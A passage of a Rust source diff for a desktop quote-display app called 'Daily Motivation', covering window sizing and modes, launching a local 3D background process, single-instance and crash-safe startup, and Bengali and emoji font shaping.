+        visuals.widgets.inactive.fg_stroke = egui::Stroke::new(1.0, Color32::WHITE);
+    }
+    visuals.widgets.active.fg_stroke = egui::Stroke::new(1.0, accent);
+    visuals.widgets.hovered.fg_stroke = egui::Stroke::new(1.0, accent);
+    style
+}
+
+/// The built quantum background: next to the app in an install, or the
+/// release build of the background crate when run from the repo
+fn background_exe() -> Option<&'static str> {
+    [
+        "quantum_logo.exe",
+        "background/target/release/quantum_logo.exe",
+    ]
+    .into_iter()
+    .find(|path| std::path::Path::new(path).exists())
+}
+
+/// Start the 3D background process behind the window. Debug builds fall
+/// back to building it with cargo; a user install just reports it missing.
+/// Launches that died on startup are retried only after their backoff.
+fn spawn_background(window: &Window, state: &mut AppState) {
+    if let Some(wait) = state
+        .bg_retry_at
+        .and_then(|at| at.checked_duration_since(Instant::now()))
+    {
+        state.push_toast(
+            ToastKind::Info,
+            format!(
+                "3D background failed to start recently; try again in {}s",
+                wait.as_secs() + 1
+            ),
+        );
+        return;
+    }
+
+    let size = window.inner_size();
+    let (pos_x, pos_y) = if let Ok(pos) = window.outer_position() {
+        (pos.x, pos.y)
+    } else {
+        (0, 0)
+    };
+    // Monitor we're on, so the child is created there (with its DPI) before
+    // it starts tracking our rect; after that it follows on its own
+    let monitor = window.current_monitor().and_then(|current| {
+        window
+            .available_monitors()
+            .position(|monitor| monitor == current)
+    });
+    #[cfg(windows)]
+    let main_hwnd_isize = {
+        use winit::raw_window_handle::RawWindowHandle;
+        match window.window_handle().map(|handle| handle.as_raw()) {
+            Ok(RawWindowHandle::Win32(win32)) => win32.hwnd.get(),
+            _ => 0,
+        }
+    };
+    #[cfg(not(windows))]
+    let main_hwnd_isize = 0isize;
+
+    let launch_args = [
+        size.width.to_string(),
+        size.height.to_string(),
+        pos_x.to_string(),
+        pos_y.to_string(),
+        main_hwnd_isize.to_string(),
+    ];
+    let mut command = match background_exe() {
+        Some(exe) => std::process::Command::new(exe),
+        #[cfg(debug_assertions)]
+        None => {
+            let mut cargo = std::process::Command::new("cargo");
+            cargo.args([
+                "run",
+                "--release",
+                "--manifest-path",
+                "background/Cargo.toml",
+                "--",
+            ]);
+            cargo
+        }
+        #[cfg(not(debug_assertions))]
+        None => {
+            let expected = std::env::current_dir()
+                .map(|dir| dir.join("quantum_logo.exe"))
+                .unwrap_or_else(|_| "quantum_logo.exe".into());
+            state.push_toast(
+                ToastKind::Error,
+                format!(
+                    "3D background is not installed (expected {})",
+                    expected.display()
+                ),
+            );
+            return;
+        }
+    };
+    command
+        .args(launch_args)
+        .args(state.background.args())
+        .args(monitor.map(|index| index.to_string()));
+
+    match command.spawn() {
+        Ok(child) => {
+            state.bg_process = Some(child);
+            state.bg_hwnd = None;
+            state.bg_spawned_at = Some(Instant::now());
+        }
+        Err(err) => {
+            log_to_file(&format!("Could not start the 3D background: {err}"));
+            state.push_toast(
+                ToastKind::Error,
+                format!("Could not start the 3D background: {err}"),
+            );
+        }
+    }
+}
+
+/// Whether the window shows the geometry worth remembering: the full
+/// window at rest, not an animation, the attention shake, or the
+/// mini/presentation/maximized layouts. Minimized doesn't count either;
+/// Windows parks it at (-32000, -32000) with a 0x0 client area
+fn geometry_is_resting(window: &Window, state: &AppState) -> bool {
+    let size = window.inner_size();
+    size.width > 0
+        && size.height > 0
+        && window.is_minimized() != Some(true)
+        && state.display_mode == DisplayMode::Normal
+        && !state.presentation_mode
+        && state.maximize_restore.is_none()
+        && state.active_animation == AppAnimation::None
+        && state.attention_base_pos.is_none()
+        && !window.is_maximized()
+}
+
+/// Resize the full window to a preset, kept inside its monitor's work area;
+/// the preset becomes the size the window reopens at
+fn apply_size_preset(window: &Window, state: &mut AppState, preset: WindowPreset) {
+    state.maximize_restore = None;
+    if window.is_maximized() {
+        window.set_maximized(false);
+    }
+    let scale = window.scale_factor();
+    let (w, h) = preset.size();
+    let width = (w as f64 * scale).round() as i32;
+    let height = (h as f64 * scale).round() as i32;
+    if let (Some((ax, ay, aw, ah)), Ok(pos)) = (work_area(window), window.outer_position()) {
+        let x = pos.x.min(ax + aw as i32 - width).max(ax);
+        let y = pos.y.min(ay + ah as i32 - height).max(ay);
+        window.set_outer_position(PhysicalPosition::new(x, y));
+    }
+    let _ = window.request_inner_size(LogicalSize::new(w as f64, h as f64));
+    state.window_size = Some((w, h));
+    state.save();
+}
+
+/// Glide the full window to `target` (outer position) in place of whatever
+/// animation was playing
+fn move_window_to(window: &Window, state: &mut AppState, target: (i32, i32), duration: Duration) {
+    // Safe mode has no animations: jump straight there
+    if state.safe_mode.is_some() {
+        window.set_outer_position(winit::dpi::PhysicalPosition::new(target.0, target.1));
+        state.window_position = Some(target);
+        return;
+    }
+    let Ok(pos) = window.outer_position() else {
+        return;
+    };
+    state.base_pos = Some((pos.x, pos.y));
+    state.move_started = Some(Instant::now());
+    state.active_animation = AppAnimation::MoveTo { target, duration };
+    window.request_redraw();
+}
+
+/// Send the window back to its home position (the startup one unless set).
+/// Not while it fills the screen or is in mini mode
+fn return_home(window: &Window, state: &mut AppState) {
+    let Some(home) = state.home_position.or(state.startup_position) else {
+        return;
+    };
+    if state.display_mode != DisplayMode::Normal
+        || state.presentation_mode
+        || is_maximized(window, state)
+    {
+        return;
+    }
+    move_window_to(window, state, home, HOME_MOVE_DURATION);
+}
+
+/// Whether the full window fills its monitor, by our work-area maximize or
+/// the OS one (e.g. a snap to the top edge)
+fn is_maximized(window: &Window, state: &AppState) -> bool {
+    state.maximize_restore.is_some() || window.is_maximized()
+}
+
+/// Maximize to the monitor's work area, or restore the previous geometry.
+/// A true maximize of the frameless window would cover the taskbar.
+fn toggle_maximized(window: &Window, state: &mut AppState) {
+    if let Some((x, y, w, h)) = state.maximize_restore.take() {
+        announce_background_rect(window, (x, y, w, h));
+        window.set_outer_position(PhysicalPosition::new(x, y));
+        let _ = window.request_inner_size(winit::dpi::PhysicalSize::new(w, h));
+    } else if window.is_maximized() {
+        window.set_maximized(false);
+    } else if let Some((x, y, w, h)) = work_area(window) {
+        let pos = window.outer_position().unwrap_or_default();
+        let size = window.inner_size();
+        state.maximize_restore = Some((pos.x, pos.y, size.width, size.height));
+        announce_background_rect(window, (x, y, w, h));
+        window.set_outer_position(PhysicalPosition::new(x, y));
+        let _ = window.request_inner_size(winit::dpi::PhysicalSize::new(w, h));
+    }
+}
+
+/// Tell the 3D background the rect (physical x, y, width, height) the window
+/// is about to take. It polls these properties and resizes in the same frame
+/// instead of a frame or two behind GetWindowRect.
+fn announce_background_rect(window: &Window, (x, y, w, h): (i32, i32, u32, u32)) {
+    #[cfg(windows)]
+    if let Ok(handle) = window.window_handle() {
+        if let winit::raw_window_handle::RawWindowHandle::Win32(win32) = handle.as_raw() {
+            let hwnd = HWND(win32.hwnd.get() as _);
+            let pos = x as u32 as u64 | (y as u32 as u64) << 32;
+            let size = w as u64 | (h as u64) << 32;
+            for (name, value) in [("BgRectPos", pos), ("BgRectSize", size)] {
+                let mut name: Vec<u16> = name.encode_utf16().collect();
+                name.push(0);
+                unsafe {
+                    let _ = SetPropW(
+                        hwnd,
+                        windows::core::PCWSTR(name.as_ptr()),
+                        windows::Win32::Foundation::HANDLE(value as _),
+                    );
+                }
+            }
+        }
+    }
+    #[cfg(not(windows))]
+    let _ = (window, x, y, w, h);
+}
+
+/// Leave the maximized layout at the start of a title bar drag: back to the
+/// size it had before, placed under the cursor (see `restore_under_cursor`)
+/// so the drag carries on from there
+fn restore_for_drag(window: &Window, state: &mut AppState) {
+    let Some(cursor) = get_global_cursor() else {
+        toggle_maximized(window, state);
+        return;
+    };
+    let pos = window.outer_position().unwrap_or_default();
+    let size = window.inner_size();
+    let maximized = (pos.x, pos.y, size.width, size.height);
+    let restored = match state.maximize_restore.take() {
+        Some((_, _, w, h)) => {
+            let _ = window.request_inner_size(winit::dpi::PhysicalSize::new(w, h));
+            (w, h)
+        }
+        None => {
+            // Maximized by the OS: back to the size remembered before it, set
+            // here since inner_size still reads maximized until the resize lands
+            window.set_maximized(false);
+            let scale = window.scale_factor();
+            let (w, h) = state.window_size.unwrap_or(DEFAULT_WINDOW_SIZE);
+            let w = (w.max(MIN_WINDOW_SIZE.0) as f64 * scale).round() as u32;
+            let h = (h.max(MIN_WINDOW_SIZE.1) as f64 * scale).round() as u32;
+            let _ = window.request_inner_size(winit::dpi::PhysicalSize::new(w, h));
+            (w, h)
+        }
+    };
+    let (x, y) = restore_under_cursor(cursor, maximized, restored);
+    window.set_outer_position(PhysicalPosition::new(x, y));
+}
+
+/// Outer position for a window of `restored` size leaving the `maximized`
+/// geometry (x, y, width, height) with the cursor on its title bar: the
+/// cursor stays at the same fraction of the width and the same height from
+/// the top, and the window stays inside the maximized area when it fits
+/// (all physical pixels).
+fn restore_under_cursor(
+    cursor: (i32, i32),
+    maximized: (i32, i32, u32, u32),
+    restored: (u32, u32),
+) -> (i32, i32) {
+    let (mx, my, mw, _) = maximized;
+    let (cx, cy) = cursor;
+    let (w, h) = (restored.0 as i32, restored.1 as i32);
+    let fraction = if mw > 0 {
+        ((cx - mx) as f64 / mw as f64).clamp(0.0, 1.0)
+    } else {
+        0.5
+    };
+    let mut x = cx - (fraction * w as f64).round() as i32;
+    if w < mw as i32 {
+        x = x.clamp(mx, mx + mw as i32 - w);
+    }
+    let y = cy - (cy - my).clamp(0, h.max(1) - 1);
+    (x, y)
+}
+
+/// Switch between the full window and the mini strip, swapping geometry and
+/// panel visibility. The window level is left alone, so the strip is on top
+/// exactly when always-on-top is.
+fn set_display_mode(window: &Window, state: &mut AppState, mode: DisplayMode) {
+    if state.display_mode == mode {
+        return;
+    }
+    state.display_mode = mode;
+
+    match mode {
+        DisplayMode::Mini => {
+            let pos = window.outer_position().unwrap_or_default();
+            let size = window.inner_size();
+            state.mini_restore = Some((
+                pos.x,
+                pos.y,
+                size.width,
+                size.height,
+                state.title_bar_state.control_panel_visible,
+            ));
+            state.maximize_restore = None;
+            state.subtitle_editing = None;
+            window.set_min_inner_size(None::<LogicalSize<f64>>);
+            let _ = window.request_inner_size(LogicalSize::new(
+                MINI_WINDOW_SIZE.0 as f64,
+                MINI_WINDOW_SIZE.1 as f64,
+            ));
+        }
+        DisplayMode::Normal => {
+            window.set_min_inner_size(Some(LogicalSize::new(
+                MIN_WINDOW_SIZE.0 as f64,
+                MIN_WINDOW_SIZE.1 as f64,
+            )));
+            if let Some((x, y, w, h, panel)) = state.mini_restore.take() {
+                window.set_outer_position(PhysicalPosition::new(x, y));
+                let _ = window.request_inner_size(winit::dpi::PhysicalSize::new(w, h));
+                state.title_bar_state.control_panel_visible = panel;
+            } else {
+                // Never was full size this run: open at the remembered size
+                let (w, h) = state.window_size.unwrap_or(DEFAULT_WINDOW_SIZE);
+                let _ = window.request_inner_size(LogicalSize::new(
+                    w.max(MIN_WINDOW_SIZE.0) as f64,
+                    h.max(MIN_WINDOW_SIZE.1) as f64,
+                ));
+            }
+        }
+    }
+    state.save();
+}
+
+/// Enter or leave presentation mode: borderless fullscreen on the current
+/// monitor, with the previous window geometry restored on exit
+fn set_presentation_mode(window: &Window, state: &mut AppState, enabled: bool) {
+    if state.presentation_mode == enabled {
+        return;
+    }
+    state.presentation_mode = enabled;
+
+    if enabled {
+        let pos = window.outer_position().unwrap_or_default();
+        let size = window.inner_size();
+        state.presentation_restore =
+            Some((pos.x, pos.y, size.width, size.height, window.is_maximized()));
+        state.theme_modal_open = false;
+        state.profile_editor_open = false;
+        state.tag_manager_open = false;
+        state.sub_text_tool_open = false;
+        state.image_export_open = false;
+        state.subtitle_editing = None;
+        state.last_interaction = Instant::now();
+        window.set_fullscreen(Some(winit::window::Fullscreen::Borderless(
+            window.current_monitor(),
+        )));
+    } else {
+        window.set_fullscreen(None);
+        if let Some((x, y, w, h, maximized)) = state.presentation_restore.take() {
+            if maximized {
+                window.set_maximized(true);
+            } else {
+                window.set_outer_position(PhysicalPosition::new(x, y));
+                let _ = window.request_inner_size(winit::dpi::PhysicalSize::new(w, h));
+            }
+        }
+    }
+}
+
+fn main() {
+    use clap::Parser;
+    let cli = Cli::parse();
+    if let Some(command) = cli.command {
+        std::process::exit(run_cli_command(command, cli.json, !cli.allow_multiple));
+    }
+
+    crash_report::install();
+    // Pin the folder before anything (a file dialog) can change it
+    config_dir();
+
+    // Hand over to an already open window instead of stacking a second one.
+    // A copy running next to another leaves the startup marker to that one:
+    // it's the other's marker it would find, and remove.
+    let mut beside_another = cli.allow_multiple;
+    let instance = if cli.allow_multiple {
+        None
+    } else {
+        match single_instance::acquire() {
+            Instance::Primary(guard) => Some(guard),
+            Instance::Running => {
+                if single_instance::send(&[InstanceMessage::Focus]).is_ok() {
+                    println!("Daily Motivation is already running; focusing it.");
+                    return;
+                }
+                // The other instance did not answer; carry on independently
+                beside_another = true;
+                None
+            }
+            Instance::Unavailable => None,
+        }
+    };
+
+    println!("==========================================");
+    std::io::Write::flush(&mut std::io::stdout()).ok();
+    println!("  Daily Motivation - Pure Rust GUI");
+    std::io::Write::flush(&mut std::io::stdout()).ok();
+    println!("  Built with winit + wgpu + egui");
+    std::io::Write::flush(&mut std::io::stdout()).ok();
+    println!("==========================================");
+    std::io::Write::flush(&mut std::io::stdout()).ok();
+    println!("\nFeatures:");
+    println!("  💪 Custom title bar with icons");
+    println!("  🎨 Theme customization");
+    println!("  📝 Quote management");
+    println!("  ⏱ Configurable rotation intervals");
+    println!("  🔍 Zoom controls");
+    println!("==========================================\n");
+    std::io::Write::flush(&mut std::io::stdout()).ok();
+
+    log_to_file("Starting application");
+    let crashed = !beside_another && previous_start_crashed();
+    if crashed {
+        log_to_file("The last run ended while starting up; starting in safe mode");
+    }
+    let safe_mode = cli.safe_mode || crashed;
+    if !beside_another {
+        write_startup_marker();
+    }
+
+    let event_loop = EventLoop::new().unwrap();
+    log_to_file("Event loop created");
+    let hotkey = global_hotkey::register(event_loop.create_proxy());
+
+    let mut app_runner = AppRunner {
+        window: None,
+        render_state: None,
+        app_state: None,
+        egui_ctx: None,
+        egui_state: None,
+        // Safe mode draws everything with egui's own fonts and layout
+        font_system: (!safe_mode).then(new_font_system),
+        swash_cache: (!safe_mode).then(cosmic_text::SwashCache::new),
+        shaped_text_textures: HashMap::new(),
+        should_close: false,
+        repaint_delay: Duration::ZERO,
+        next_frame_at: Instant::now(),
+        start_presentation: cli.kiosk,
+        seed: cli.seed,
+        instance,
+        hotkey,
+        quick_add: None,
+        gpu_recoveries: 0,
+        low_memory_warned: false,
+        last_gpu_recovery: None,
+        safe_mode,
+        startup_marker: (!beside_another).then(Instant::now),
+    };
+
+    log_to_file("Running event loop");
+    // Use the new run_app API with proper window creation in the event loop
+    let _ = event_loop.run_app(&mut app_runner);
+    log_to_file("Event loop exited");
+
+    // Settle the last save and let go of the instance lock before a
+    // restart, so the new copy doesn't hand over to this one
+    let restart = app_runner
+        .app_state
+        .as_ref()
+        .is_some_and(|s| s.restart_normally);
+    drop(app_runner);
+    if !beside_another {
+        clear_startup_marker();
+    }
+    if restart {
+        relaunch_normally();
+    }
+}
+
+/// The folder settings.json lives in, as an absolute path: the working
+/// directory at launch, fixed on first use so a later change doesn't move it
+fn config_dir() -> &'static std::path::Path {
+    static DIR: std::sync::OnceLock<std::path::PathBuf> = std::sync::OnceLock::new();
+    DIR.get_or_init(|| std::env::current_dir().unwrap_or_default())
+}
+
+fn startup_marker_path() -> std::path::PathBuf {
+    config_dir().join(STARTUP_MARKER)
+}
+
+/// Whether the last run died while starting up (it left STARTUP_MARKER)
+fn previous_start_crashed() -> bool {
+    startup_marker_path().exists()
+}
+
+fn write_startup_marker() {
+    let path = startup_marker_path();
+    if let Err(e) = std::fs::write(&path, chrono::Local::now().to_rfc3339()) {
+        log_to_file(&format!("Could not write {}: {}", path.display(), e));
+    }
+}
+
+fn clear_startup_marker() {
+    let _ = std::fs::remove_file(startup_marker_path());
+}
+
+/// Start a new copy with the same arguments minus --safe-mode
+fn relaunch_normally() {
+    let args = std::env::args().skip(1).filter(|arg| arg != "--safe-mode");
+    let result =
+        std::env::current_exe().and_then(|exe| std::process::Command::new(exe).args(args).spawn());
+    if let Err(e) = result {
+        log_to_file(&format!("Could not restart: {}", e));
+    }
+}
+
+// A local copy first (next to settings.json, where a profile bundle puts its
+// font, or in assets): it's only there if someone chose it. Then common
+// Bengali fonts on Windows; Nirmala.ttc is the standard TrueType Collection
+// on Windows 10/11
+const BENGALI_FONT_PATHS: [&str; 9] = [
+    "NotoSansBengali-Regular.ttf",
+    "assets/NotoSansBengali-Regular.ttf",
+    "C:\\Windows\\Fonts\\Nirmala.ttc",
+    "C:\\Windows\\Fonts\\Vrinda.ttf",
+    "C:\\Windows\\Fonts\\Siyamrupali.ttf",
+    "C:\\Windows\\Fonts\\ShonarBangla.ttf",
+    "C:\\Windows\\Fonts\\Shonar.ttf",
+    "C:\\Windows\\Fonts\\NotoSansBengali-Regular.ttf",
+    "C:\\Windows\\Fonts\\arialuni.ttf",
+];
+
+/// The Bengali font `setup_fonts` loads, when it's a file of our own (next
+/// to settings.json or in assets) rather than one that comes with Windows
+fn local_bengali_font() -> Option<&'static str> {
+    BENGALI_FONT_PATHS
+        .into_iter()
+        .find(|path| std::path::Path::new(path).exists())
+        .filter(|path| !path.starts_with("C:\\Windows"))
+}
+
+/// Setup custom fonts for Bangla/Bengali text support
+fn setup_fonts(ctx: &Context) {
+    let mut fonts = egui::FontDefinitions::default();
+
+    let mut loaded = false;
+    for path in BENGALI_FONT_PATHS {
+        if let Ok(data) = std::fs::read(path) {
+            // Note: egui uses ab_glyph which supports .ttf, .otf, and .ttc
+            // For .ttc, it will use the first font in the collection
+            fonts
+                .font_data
+                .insert("bengali".to_owned(), egui::FontData::from_owned(data));
+
+            // Priority 0: Always put our support font first in families
+            if let Some(family) = fonts.families.get_mut(&egui::FontFamily::Proportional) {
+                family.insert(0, "bengali".to_owned());
+            }
+            if let Some(family) = fonts.families.get_mut(&egui::FontFamily::Monospace) {
+                family.insert(0, "bengali".to_owned());
+            }
+
+            log_to_file(&format!("Loaded Bengali font from: {}", path));
+            loaded = true;
+            break;
+        }
+    }
+
+    if !loaded {
+        log_to_file("WARNING: No Bengali fonts found. Bangla text rendering will likely fail.");
+    }
+
+    add_icon_font(&mut fonts);
+    ctx.set_fonts(fonts);
+}
+
+/// Only the bundled icon font on top of egui's own: safe mode skips the
+/// custom fonts, but the title bar still needs its icons
+fn setup_icon_font(ctx: &Context) {
+    let mut fonts = egui::FontDefinitions::default();
+    add_icon_font(&mut fonts);
+    ctx.set_fonts(fonts);
+}
+
+/// The bundled nerd font, last in the proportional family, where the
+/// `icons` glyphs come from
+fn add_icon_font(fonts: &mut egui::FontDefinitions) {
+    fonts.font_data.insert(
+        "nerdfonts".to_owned(),
+        egui::FontData::from_static(include_bytes!("../assets/nerdfonts_regular.ttf")),
+    );
+    if let Some(family) = fonts.families.get_mut(&egui::FontFamily::Proportional) {
+        family.push("nerdfonts".to_owned());
+    }
+}
+
+/// Smallest size auto-fit will shrink the main text to
+const AUTO_FIT_MIN_SIZE: f32 = 10.0;
+
+/// Scale (<= 1) that makes `text` at `max_size` fit within 70% of the panel
+/// width and 50% of its height, measured the way it will be drawn (wrapped
+/// egui text, or an unwrapped cosmic-text line). Cached per text, size and
+/// panel size, so it is only measured when one of those changes
+fn auto_fit_scale(
+    ui: &egui::Ui,
+    state: &mut AppState,
+    shaper: &mut Option<(
+        &mut cosmic_text::FontSystem,
+        &mut cosmic_text::SwashCache,
+        &mut HashMap<u64, egui::TextureHandle>,
+    )>,
+    text: &str,
+    max_size: f32,
+) -> f32 {
+    let bounds = ui.max_rect().size() * Vec2::new(0.7, 0.5);
+
+    use std::hash::{Hash, Hasher};
+    let mut hasher = std::collections::hash_map::DefaultHasher::new();
+    text.hash(&mut hasher);
+    max_size.to_bits().hash(&mut hasher);
+    (bounds.x.round() as i32, bounds.y.round() as i32).hash(&mut hasher);
+    let key = hasher.finish();
+    if let Some(&scale) = state.auto_fit_cache.get(&key) {
+        return scale;
+    }
+
+    let shaped = needs_shaping(text);
+    let mut measure = |size: f32| -> Vec2 {
+        match shaper.as_mut() {
+            Some((fs, _, _)) if shaped => measure_shaped_text(fs, text, size),
+            _ => ui.fonts(|f| {
+                f.layout(
+                    text.to_owned(),
+                    FontId::proportional(size),
+                    Color32::WHITE,
+                    bounds.x,
+                )
+                .size()
+            }),
+        }
+    };
+    let mut fits = |size: f32| {
+        let size = measure(size);
+        size.x <= bounds.x && size.y <= bounds.y
+    };
+
+    let scale = if max_size <= AUTO_FIT_MIN_SIZE || fits(max_size) {
+        1.0
+    } else {
+        // Binary search; to within ~0.5% of the range is plenty
+        let (mut lo, mut hi) = (AUTO_FIT_MIN_SIZE, max_size);
+        for _ in 0..8 {
+            let mid = (lo + hi) / 2.0;
+            if fits(mid) {
+                lo = mid;
+            } else {
+                hi = mid;
+            }
+        }
+        lo / max_size
+    };
+
+    if state.auto_fit_cache.len() > 256 {
+        state.auto_fit_cache.clear();
+    }
+    state.auto_fit_cache.insert(key, scale);
+    scale
+}
+
+/// Size of text as `render_shaped_text` would lay it out, without rasterizing
+fn measure_shaped_text(
+    font_system: &mut cosmic_text::FontSystem,
+    text: &str,
+    font_size: f32,
+) -> Vec2 {
+    let metrics = cosmic_text::Metrics::new(font_size, font_size * 1.3);
+    let mut buffer = cosmic_text::Buffer::new(font_system, metrics);
+    buffer.set_size(font_system, Some(2000.0), None);
+    let attrs = cosmic_text::Attrs::new().family(cosmic_text::Family::Name("Nirmala UI"));
+    buffer.set_text(font_system, text, attrs, cosmic_text::Shaping::Advanced);
+    buffer.shape_until_scroll(font_system, false);
+    buffer.layout_runs().fold(Vec2::ZERO, |size, run| {
+        Vec2::new(size.x.max(run.line_w), size.y + run.line_height)
+    })
+}
+
+/// Quote label with an optional drop shadow. The text is a selectable
+/// `Label` either way; with a shadow the galley is laid out the same way
+/// (wrapped, centered) and painted at each offset underneath it
+fn shadowed_label(
+    ui: &mut egui::Ui,
+    text: RichText,
+    shadow: Option<&ShadowStyle>,
+    sense: Sense,
+) -> egui::Response {
+    let label = egui::Label::new(text.clone()).selectable(true).sense(sense);
+    let Some(shadow) = shadow else {
+        return ui.add(label);
+    };
+
+    // Reserve a slot below the label so the shadow ends up behind it
+    let slot = ui.painter().add(Shape::Noop);
+    let response = ui.add(label);
+    if ui.is_rect_visible(response.rect) {
+        let mut job = egui::WidgetText::from(text).into_layout_job(
+            ui.style(),
+            egui::FontSelection::Default,
+            egui::Align::Center,
+        );
+        job.wrap.max_width = ui.available_width();
+        job.halign = egui::Align::Center;
+        let galley = ui.fonts(|f| f.layout_job(job));
+        let pos = response.rect.center_top();
+        let copies = shadow
+            .copies()
+            .into_iter()
+            .map(|(offset, fade)| {
+                Shape::galley_with_override_text_color(
+                    pos + offset,
+                    galley.clone(),
+                    shadow.color.gamma_multiply(fade),
+                )
+            })
+            .collect();
+        ui.painter().set(slot, Shape::Vec(copies));
+    }
+    response
+}
+
+/// What the quote's right-click menu asked for, beyond copying
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum QuoteMenuAction {
+    EditQuote,
+    EditSubText,
+}
+
+/// Right-click menu on the displayed quote: copy either line (the way to
+/// copy shaped text, which can't be selected) and the edit actions
+fn quote_context_menu(
+    response: &egui::Response,
+    main_text: &str,
+    sub_text: &str,
+) -> Option<QuoteMenuAction> {
+    let mut picked = None;
+    response.context_menu(|ui| {
+        if ui.button("Copy main text").clicked() {
+            ui.ctx().copy_text(main_text.to_string());
+            ui.close_menu();
+        }
+        if !sub_text.is_empty() && ui.button("Copy sub text").clicked() {
+            ui.ctx().copy_text(sub_text.to_string());
+            ui.close_menu();
+        }
+        ui.separator();
+        if ui
+            .button("Edit quote")
+            .on_hover_text("Back into the add form (it's removed until added again)")
+            .clicked()
+        {
+            picked = Some(QuoteMenuAction::EditQuote);
+            ui.close_menu();
+        }
+        if ui.button("Edit sub text").clicked() {
+            picked = Some(QuoteMenuAction::EditSubText);
+            ui.close_menu();
+        }
+    });
+    picked
+}
+
+/// Dashed frame and a small PREVIEW tag around the previewed quote lines
+/// (PreviewStyle::Marked)
+fn paint_preview_frame(ui: &egui::Ui, lines: Rect, accent: Color32) {
+    let frame = lines.expand2(Vec2::new(16.0, 10.0));
+    let stroke = Stroke::new(1.5, accent);
+    let corners = [
+        frame.left_top(),
+        frame.right_top(),
+        frame.right_bottom(),
+        frame.left_bottom(),
+        frame.left_top(),
+    ];
+    let painter = ui.painter();
+    painter.extend(Shape::dashed_line(&corners, stroke, 8.0, 5.0));
+
+    let tag = painter.layout_no_wrap(
+        "PREVIEW".to_string(),
+        FontId::proportional(10.0),
+        Color32::BLACK,
+    );
+    let tag_rect = Rect::from_min_size(frame.left_top(), tag.size() + Vec2::new(8.0, 2.0))
+        .translate(Vec2::new(8.0, -tag.size().y * 0.5 - 1.0));
+    painter.rect_filled(tag_rect, 3.0, accent);
+    painter.galley(tag_rect.min + Vec2::new(4.0, 1.0), tag, Color32::BLACK);
+}
+
+/// Add a shaped-text texture, painting its shadow texture (if any) underneath
+fn add_shaped_text_image(
+    ui: &mut egui::Ui,
+    tex_id: egui::TextureId,
+    size: Vec2,
+    shadow: Option<(egui::TextureId, &ShadowStyle)>,
+    sense: Sense,
+) -> egui::Response {
+    // Reserve a slot below the image so the shadow ends up behind it
+    let slot = ui.painter().add(Shape::Noop);
+    let response =
+        ui.add(egui::Image::new(egui::load::SizedTexture::new(tex_id, size)).sense(sense));
+
+    if let Some((shadow_id, shadow)) = shadow {
+        let uv = Rect::from_min_max(Pos2::ZERO, Pos2::new(1.0, 1.0));
+        let copies = shadow
+            .copies()
+            .into_iter()
+            .map(|(offset, fade)| {
+                Shape::image(
+                    shadow_id,
+                    response.rect.translate(offset),
+                    uv,
+                    Color32::WHITE.gamma_multiply(fade),
+                )
+            })
+            .collect();
+        ui.painter().set(slot, Shape::Vec(copies));
+    }
+    response
+}
+
+/// Scripts egui's own layout can't handle (no shaping, no bidi)
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ComplexScript {
+    Bengali,
+    Devanagari,
+    Arabic,
+    Hebrew,
+    Thai,
+}
+
+impl ComplexScript {
+    fn of(c: char) -> Option<Self> {
+        match c {
+            '\u{0980}'..='\u{09FF}' => Some(Self::Bengali),
+            '\u{0900}'..='\u{097F}' => Some(Self::Devanagari),
+            '\u{0600}'..='\u{06FF}'
+            | '\u{0750}'..='\u{077F}'
+            | '\u{FB50}'..='\u{FDFF}'
+            | '\u{FE70}'..='\u{FEFF}' => Some(Self::Arabic),
+            '\u{0590}'..='\u{05FF}' | '\u{FB1D}'..='\u{FB4F}' => Some(Self::Hebrew),
+            '\u{0E00}'..='\u{0E7F}' => Some(Self::Thai),
+            _ => None,
+        }
+    }
+
+    pub fn is_rtl(self) -> bool {
+        matches!(self, Self::Arabic | Self::Hebrew)
+    }
+}
+
+/// First complex script used in the text, if any
+fn detect_script(text: &str) -> Option<ComplexScript> {
+    text.chars().find_map(ComplexScript::of)
+}
+
+/// Base paragraph direction: taken from the first letter, as the bidi
+/// algorithm does (digits and punctuation are neutral)
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum TextDirection {
+    Ltr,
+    Rtl,
+}
+
+fn base_direction(text: &str) -> TextDirection {
+    match text
+        .chars()
+        .find(|c| c.is_alphabetic())
+        .and_then(ComplexScript::of)
+    {
+        Some(script) if script.is_rtl() => TextDirection::Rtl,
+        _ => TextDirection::Ltr,
+    }
+}
+
+fn contains_emoji(text: &str) -> bool {
+    text.chars().any(|c| {
+        matches!(c,
+            '\u{200D}' | '\u{FE0F}'       // ZWJ sequences, emoji presentation
+            | '\u{2600}'..='\u{27BF}'     // Misc symbols, dingbats
+            | '\u{1F000}'..='\u{1FAFF}'   // Emoji blocks
+        )
+    })
+}
+
+/// Whether text has to go through cosmic-text instead of egui's own layout:
+/// complex scripts (shaping, right-to-left) and emoji, which egui only has
+/// monochrome glyphs for
+fn needs_shaping(text: &str) -> bool {
+    detect_script(text).is_some() || contains_emoji(text)
+}
+
+/// Color emoji fonts to make sure cosmic-text can fall back to, wherever the
+/// platform keeps them. System fonts are loaded too; this just pins the names
+const COLOR_EMOJI_FONTS: [&str; 4] = [
+    "C:\\Windows\\Fonts\\seguiemj.ttf",
+    "/usr/share/fonts/truetype/noto/NotoColorEmoji.ttf",
+    "/usr/share/fonts/noto/NotoColorEmoji.ttf",
+    "/System/Library/Fonts/Apple Color Emoji.ttc",
+];
+
+/// cosmic-text font system with the system fonts plus a color emoji font
+fn new_font_system() -> cosmic_text::FontSystem {
+    let mut font_system = cosmic_text::FontSystem::new();
+    for path in COLOR_EMOJI_FONTS {
+        if std::path::Path::new(path).exists() {
+            if let Err(e) = font_system.db_mut().load_font_file(path) {
+                log_to_file(&format!("Could not load emoji font {}: {}", path, e));
+            }
+        }
+    }
+    font_system
+}
+
+/// Render shaped text using cosmic-text and return an egui texture.
+/// This properly handles complex scripts like Bengali through rustybuzz (HarfBuzz port),
+/// and color emoji (COLR / bitmap glyphs keep their own colors).
+fn render_shaped_text(
+    ctx: &Context,
+    font_system: &mut cosmic_text::FontSystem,
+    swash_cache: &mut cosmic_text::SwashCache,
+    text: &str,
+    font_size: f32,
+    color: Color32,
+    tex_cache: &mut HashMap<u64, egui::TextureHandle>,
+) -> Option<(egui::TextureId, Vec2)> {
+    render_shaped_texture(
+        ctx,
+        font_system,
+        swash_cache,
+        text,
+        font_size,
+        color,
+        false,
+        0.0,
+        tex_cache,
+    )
+}
+
+/// One clickable TEXT LIST line: shaped through cosmic-text when the script
+/// needs it, a label elided to the row width otherwise
+fn list_text_line(
+    ui: &mut egui::Ui,
+    shaper: &mut Option<(
